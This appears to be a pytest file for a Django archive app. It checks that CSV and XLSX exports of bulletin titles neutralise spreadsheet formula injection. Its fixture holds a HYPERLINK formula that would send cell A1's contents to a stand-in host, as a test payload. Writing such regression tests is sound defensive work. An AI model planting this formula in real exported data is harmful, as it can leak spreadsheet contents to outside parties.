"""Formula injection: a title that looks like a formula stays text in every sheet."""

import csv
import io
from io import StringIO

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from tests.admin import cliente
from tests.factories import BoletinPageFactory

FORMULA = '=HYPERLINK("http://ejemplo.invalid/?d="&A1,"Ver")'


@pytest.fixture
def boletin_con_formula(institucion_compartida):
    """A published boletín whose title a spreadsheet would run as a formula."""
    return BoletinPageFactory(
        parent=institucion_compartida.sala, publicada=True, title=FORMULA
    )


def _celdas_del_titulo(hoja):
    return [c for fila in hoja.iter_rows() for c in fila if "HYPERLINK" in str(c.value)]


def test_export_records_csv_prefixes_formula_cells_with_an_apostrophe(
    boletin_con_formula, tmp_path
):
    destino = tmp_path / "registros.csv"
    call_command("export_records", "--out", str(destino), stderr=StringIO())
    filas = list(csv.DictReader(destino.open(encoding="utf-8-sig")))
    titulos = [f["Título"] for f in filas if "HYPERLINK" in f["Título"]]
    assert titulos == ["'" + FORMULA]


def test_export_records_xlsx_keeps_formula_looking_titles_as_text(
    boletin_con_formula, tmp_path
):
    destino = tmp_path / "registros.xlsx"
    call_command(
        "export_records", "--format", "xlsx", "--out", str(destino), stderr=StringIO()
    )
    (celda,) = _celdas_del_titulo(openpyxl.load_workbook(destino).active)
    assert celda.data_type == "s" and celda.value == FORMULA


def test_the_inventory_xlsx_keeps_formula_looking_titles_as_text(
    boletin_con_formula,
):
    respuesta = cliente("archivo").get(
        reverse("archivo_inventario", args=("general", "xlsx"))
    )
    assert respuesta.status_code == 200
    hoja = openpyxl.load_workbook(io.BytesIO(respuesta.content)).active
    (celda,) = _celdas_del_titulo(hoja)
    assert celda.data_type == "s" and celda.value.startswith(FORMULA)


def test_the_workspace_csv_download_neutralises_formula_cells(boletin_con_formula):
    respuesta = cliente("archivo").get(
        reverse("archivo_registros:index"), {"export": "csv"}
    )
    cuerpo = b"".join(respuesta.streaming_content).decode("utf-8-sig")
    filas = list(csv.reader(io.StringIO(cuerpo)))
    titulos = [c for fila in filas for c in fila if "HYPERLINK" in c]
    assert titulos == ["'" + FORMULA]
